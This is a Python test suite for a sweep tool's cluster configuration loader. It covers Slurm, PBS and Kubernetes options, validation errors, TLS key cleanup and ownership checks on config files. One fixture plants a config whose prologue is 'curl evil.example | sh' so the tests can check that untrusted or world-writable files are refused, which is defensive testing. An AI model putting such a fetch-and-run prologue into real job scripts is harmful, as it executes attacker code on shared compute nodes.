"""Cluster files: the shipped ones, the rules, where names are looked up, what dask-jobqueue's own files say."""

import contextlib
import grp
import os
import pwd
import re
import socket
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import dask
import dask_jobqueue  # noqa: F401  its defaults must not go with a test's settings
import jsonschema
import pytest
import yaml
from distributed.cli import dask_scheduler, dask_worker

from photogap.sweeps.clusters import trust
from photogap.sweeps.clusters.cluster_file import find, parse
from photogap.sweeps.clusters.jobs import _scheduler
from photogap.sweeps.clusters.kinds.kubernetes import kube_arguments
from photogap.sweeps.clusters.kinds.slurm import Slurm
from photogap.sweeps.clusters.script import driver_script, oversubscription, processes_of, retirement, worker_script
from photogap.sweeps.errors import ConfigError
from photogap.sweeps.examples import CONFIGS
from photogap.sweeps.private import private_folder
from support.patience import PATIENCE

ROOT = Path(__file__).parents[2]
SHIPPED = CONFIGS / "clusters"
SLURM: dict[str, Any] = {"kind": "slurm", "jobs": 1, "cores": 2, "memory": "4GB"}
TEXTS: list[tuple[dict[str, Any], str]] = [
    (
        SLURM | {"wall_time": "1:00:00"},
        r"f.yaml: `wall_time`: unknown key. Write `walltime: HH:MM:SS`. Got '1:00:00'",
    ),
    (SLURM | {"kind": "slrum"}, r"`kind` must be one of address, .*slurm\. Did you mean `slurm`\? Got 'slrum'"),
    (SLURM | {"walltime": "soon"}, r"`walltime`: must be HH:MM:SS, .* Got 'soon'"),
    (SLURM | {"memory": "lots"}, r"`memory`: must be a size such as 8GB. Got 'lots'"),
    (SLURM | {"poll": "soon"}, r"`poll`: must be a time such as 90s"),
    (SLURM | {"adapt": {"maximum": 3}}, r"one of `jobs` and `adapt` must be given"),
    (
        SLURM | {"jobs": None, "adapt": {"minimum": 4, "maximum": 3}},
        r"`adapt`: `minimum` must not exceed `maximum`",
    ),
    (SLURM | {"jobs": None, "adapt": {"maxmum": 3}}, r"`adapt.maxmum`: unknown key. Did you mean `maximum`"),
    ({"kind": "address"}, r"`address`: required key is missing"),
    (
        {"kind": "address", "address": "tcp://node7:8786"},
        r"must be tls://HOST:PORT .* anyone who can reach a plain scheduler",
    ),
    ({"kind": "address", "address": "tls://node7:8786"}, r"needs `ca_file`, `cert` and `key`"),
    ({"kind": "gateway"}, r"one of `workers` and `adapt` must be given"),
    ({"kind": "kubernetes", "workers": 2}, r"one of `image` and `values` must be given"),
]


@pytest.mark.parametrize("name", sorted(path.stem for path in SHIPPED.glob("*.yaml")))
def test_shipped_files_are_read_by_name(name: str, home: Path) -> None:
    spec, where = find(name)
    assert (spec.kind, Path(where).name) == (name, f"{name}.yaml")
    assert Path(where).parent == SHIPPED


@pytest.mark.parametrize(("tree", "message"), TEXTS)
def test_a_wrong_file_is_refused_by_key_and_rule(tree: dict[str, Any], message: str) -> None:
    with pytest.raises(ConfigError, match=message):
        parse(tree, "f.yaml")


def test_names_are_looked_up_in_the_users_folder_first_then_in_the_project(
    home: Path, cluster: Callable[..., Path]
) -> None:
    own = cluster("slurm", jobs=7)
    spec, where = find("slurm")
    assert (where, spec.jobs) == (str(own), 7)  # type: ignore[union-attr]
    project = home / "project" / "configs" / "clusters"
    project.mkdir(parents=True)
    (project / "ours.yaml").write_text("kind: local\nworkers: 3\n")
    assert find("ours", str(home / "project" / "sweeps"))[1] == str(project / "ours.yaml")
    with pytest.raises(ConfigError, match=r"`cluster` must be .* Did you mean `slurm`\? Got 'slrum'"):
        find("slrum")


@pytest.fixture
def planted(home: Path) -> Path:
    """A cluster file that a name leads to from a folder below it."""
    path = home / "scratch" / "configs" / "clusters" / "ours.yaml"
    path.parent.mkdir(parents=True)
    path.write_text("kind: slurm\njobs: 1\nprologue: [curl evil.example | sh]\n")
    (home / "scratch" / "me").mkdir()
    for part in (path, path.parent, path.parent.parent):
        part.chmod(0o755)
    return path


def give_away(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Make a file somebody else's; where we may not, make us somebody else."""
    if os.geteuid() == 0:
        os.chown(path, 65534, 65534, follow_symlinks=False)
    else:
        monkeypatch.setattr(os, "geteuid", lambda me=os.geteuid(): me + 1)


@pytest.mark.parametrize("above", [0, 1, 2])
def test_file_planted_by_another_user_is_ignored(
    home: Path, planted: Path, above: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    below, part = str(home / "scratch" / "me"), [planted, *planted.parents][above]
    assert find("ours", below)[1] == str(planted)
    part.chmod(0o777)
    with pytest.raises(ConfigError, match=rf"ignored: .* '{part}' is writable by everyone"):
        find("ours", below)
    part.chmod(0o775)
    for private in (True, False):
        monkeypatch.setattr(trust, "_is_private", lambda gid, uid, private=private: private)
        with contextlib.nullcontext() if private else pytest.raises(ConfigError, match="writable by the group "):
            find("ours", below)
    part.chmod(0o755)
    give_away(part, monkeypatch)
    with pytest.raises(ConfigError, match=rf"'{part}' belongs to .* use its path, --cluster {planted}"):
        find("ours", below)
    assert find(str(planted))[1] == str(planted), "what is named is taken"
    planted.rename(home / "config" / "photogap" / "clusters" / "ours.yaml")
    assert find("ours", below)[0].kind == "slurm", "so is what lies in the user's own folder"


def test_owner_of_a_link_and_of_its_target_are_checked(
    home: Path, planted: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    below, mine = str(home / "scratch" / "me"), planted.rename(home / "mine.yaml")
    planted.symlink_to(mine)
    assert find("ours", below)[1] == str(planted)
    mine.chmod(0o666)
    with pytest.raises(ConfigError, match="is writable by everyone"):
        find("ours", below)
    mine.chmod(0o644)
    give_away(planted, monkeypatch)
    with pytest.raises(ConfigError, match="belongs to "):
        find("ours", below)


def test_a_group_is_private_by_its_name_and_its_members(monkeypatch: pytest.MonkeyPatch) -> None:
    me = pwd.struct_passwd(("me", "x", 1000, 1000, "", "/", "/bin/sh"))
    monkeypatch.setattr(pwd, "getpwuid", lambda uid: me)

    def private(name: str, *members: str, gid: int = 1000) -> bool:
        monkeypatch.setattr(grp, "getgrgid", lambda gid: grp.struct_group((name, "x", gid, list(members))))
        return trust._is_private(gid, 1000)

    assert private("me")
    assert private("me", "me")
    assert not private("me", "you")
    assert not private("physics")
    assert not private("me", gid=2000)


def test_missing_keys_come_from_dask_jobqueue(tmp_path: Path) -> None:
    spec = parse({"kind": "slurm", "jobs": 1}, "f.yaml")
    assert isinstance(spec, Slurm)
    with pytest.raises(ConfigError, match="needs `cores` and `memory`"):
        processes_of(spec)
    own = {
        "cores": 4, "memory": "8GB", "queue": "theirs", "account": "phys", "walltime": "02:00:00",
        "job-script-prologue": ["module load theirs"], "job-extra-directives": ["--qos=low"], "interface": "ib7",
        "worker-extra-args": ["--resources", "GPU=1"],
    }  # fmt: skip
    with dask.config.set({f"jobqueue.slurm.{k}": v for k, v in own.items()}):
        lines = worker_script(spec, name="n", address="tcp://a:1", logs=tmp_path).splitlines()
        text = "\n".join(lines)
        for expected in ("-p theirs", "-A phys", "--cpus-per-task=4", "--mem=7630M", "-t 02:00:00", "--qos=low"):
            assert f"#SBATCH {expected}" in lines
        assert "module load theirs" in lines
        assert "--interface ib7" in text
        assert "--resources GPU=1" in text
        assert retirement(spec) == (7200 - 720, 720)
        mine = spec.model_copy(update={"queue": "mine", "prologue": ("module load mine",)})
        text = worker_script(mine, name="n", address="tcp://a:1", logs=tmp_path)
    assert "-p mine" in text
    assert "theirs" not in text


def test_more_processes_than_cores_are_warned_of() -> None:
    spec = parse(SLURM | {"processes": 4}, "f.yaml")
    assert isinstance(spec, Slurm)
    assert "4 worker processes share 2 cores per job" in str(oversubscription(spec))
    assert oversubscription(spec.model_copy(update={"processes": 2})) is None


def operators_schema() -> dict[str, Any]:
    """Schema of a DaskCluster, as the operator's chart brings it to Kubernetes."""
    import dask_kubernetes

    chart = Path(dask_kubernetes.__file__).parent / "operator/deployment/helm/dask-kubernetes-operator"
    definition = yaml.safe_load((chart / "crds" / "daskcluster.yaml").read_text())
    return dict(definition["spec"]["versions"][0]["schema"]["openAPIV3Schema"])


def assert_runs(resource: dict[str, Any]) -> None:
    """The operator takes the resource, and `dask` the commands in it."""
    jsonschema.validate(resource, operators_schema())
    for part, command in (("worker", dask_worker.main), ("scheduler", dask_scheduler.main)):
        (container,) = resource["spec"][part]["spec"]["containers"]
        assert container["args"][:2] == ["dask", part]
        command.make_context(part, list(container["args"][2:]))
    env = {e["name"]: e["value"] for e in resource["spec"]["worker"]["spec"]["containers"][0]["env"]}
    assert env["OMP_NUM_THREADS"] == "1"


def test_kubernetes_takes_an_image_or_a_whole_resource(tmp_path: Path) -> None:
    tree = {"kind": "kubernetes", "image": "me/photogap:1", "workers": 3, "env": {"A": "b"}}
    resource = kube_arguments(parse(tree, "f.yaml"))["custom_cluster_spec"]  # type: ignore[arg-type]
    assert_runs(resource)
    worker = resource["spec"]["worker"]
    assert (worker["replicas"], worker["spec"]["containers"][0]["image"]) == (3, "me/photogap:1")
    assert {"name": "A", "value": "b"} in worker["spec"]["containers"][0]["env"]

    text = (ROOT / "docs" / "clusters.md").read_text()
    (shown,) = re.findall(r"```yaml\n(# daskcluster\.yaml.*?)```", text, re.DOTALL)
    values = tmp_path / "values.yaml"
    values.write_text(shown)
    spec = parse({"kind": "kubernetes", "values": str(values), "workers": 3}, "f.yaml")
    assert_runs(kube_arguments(spec)["custom_cluster_spec"])  # type: ignore[arg-type]


IMPORTS = """
import signal, sys, threading
from pathlib import Path
folder = Path(sys.argv[1])
(folder / "dask_jobqueue.py").write_text(
    "import signal, sys\\nsignal.signal(signal.SIGINT, lambda *_: None)\\nsys.begun.set(); sys.go.wait()"
)
sys.path.insert(0, str(folder))
sys.begun, sys.go = threading.Event(), threading.Event()
from photogap.sweeps.clusters.script import import_jobqueue
before = signal.getsignal(signal.SIGINT)
importing = threading.Thread(target=import_jobqueue)
importing.start()
sys.begun.wait()
assert signal.getsignal(signal.SIGINT) is before
mine = lambda *_: None
signal.signal(signal.SIGTERM, mine)
assert signal.getsignal(signal.SIGTERM) is mine
sys.go.set()
importing.join()
signal.signal(signal.SIGINT, mine)
assert signal.getsignal(signal.SIGINT) is mine
"""


def test_import_of_dask_jobqueue_leaves_signal_handlers_alone(tmp_path: Path) -> None:
    subprocess.run([sys.executable, "-c", IMPORTS, tmp_path], check=True, timeout=PATIENCE)


def test_keys_of_a_killed_run_are_removed_by_the_next(tmp_path: Path) -> None:
    ended = subprocess.Popen(["true"])
    ended.wait(PATIENCE)
    stale = tmp_path / f"tls-{socket.gethostname()}-{ended.pid}-x"
    stale.mkdir(mode=0o700)
    (stale / "key.pem").write_text("old")
    other = tmp_path / f"tls-{socket.gethostname()}-{ended.pid}-1-x"
    other.mkdir()
    with private_folder(tmp_path) as first, private_folder(tmp_path) as second:
        assert not stale.exists()
        assert other.exists(), "process 1 of a host whose name begins as this one's"
        assert first.exists(), "a run that lives keeps its folder"
        assert second.stat().st_mode & 0o777 == 0o700
    assert list(tmp_path.iterdir()) == [other]


@pytest.mark.parametrize("wanted", [False, True])
def test_a_site_cannot_open_the_dashboard(wanted: bool) -> None:
    spec = parse(SLURM | {"interface": "lo", "tls": False}, "f.yaml")
    assert isinstance(spec, Slurm)
    options = {
        "jobqueue.slurm.scheduler-options": {"dashboard_address": ":0", "dashboard": True, "http_prefix": "/x"}
    }
    with dask.config.set(options), contextlib.ExitStack() as stack:
        scheduler = _scheduler(spec, None, stack, dashboard=wanted).scheduler
        servers = list(scheduler.services.values())
        listening = {ip for found in servers for s in found._sockets.values() for ip in s.getsockname()[:1]}
        assert (scheduler.dashboard is not None) == wanted
    assert listening == ({"127.0.0.1"} if wanted else set())


def test_job_with_a_gpu(tmp_path: Path) -> None:
    """One process and one GPU a job, and none for the driver's own."""
    asked = {"gpus": 1}
    slurm: Any = parse(SLURM | asked, "f.yaml")
    assert processes_of(slurm) == 1
    assert "#SBATCH --gres=gpu:1" in worker_script(slurm, name="n", address="tcp://a:1", logs=tmp_path)
    pbs: Any = parse(SLURM | {"kind": "pbs"} | asked, "f.yaml")
    assert ":ngpus=1" in worker_script(pbs, name="n", address="tcp://a:1", logs=tmp_path)
    for spec in (slurm, pbs):
        assert not re.search("gpu[:s]", driver_script(spec, "n", tmp_path / "log", ["photogap", "status"]))
    kubernetes: Any = parse({"kind": "kubernetes", "workers": 1, "image": "a"} | asked, "f.yaml")
    resource = kube_arguments(kubernetes)["custom_cluster_spec"]
    container = resource["spec"]["worker"]["spec"]["containers"][0]
    assert container["resources"]["limits"] == {"nvidia.com/gpu": 1}
    with pytest.raises(ConfigError, match=r"`gpus`: .* 1\. Got 2"):
        parse(SLURM | {"gpus": 2}, "f.yaml")
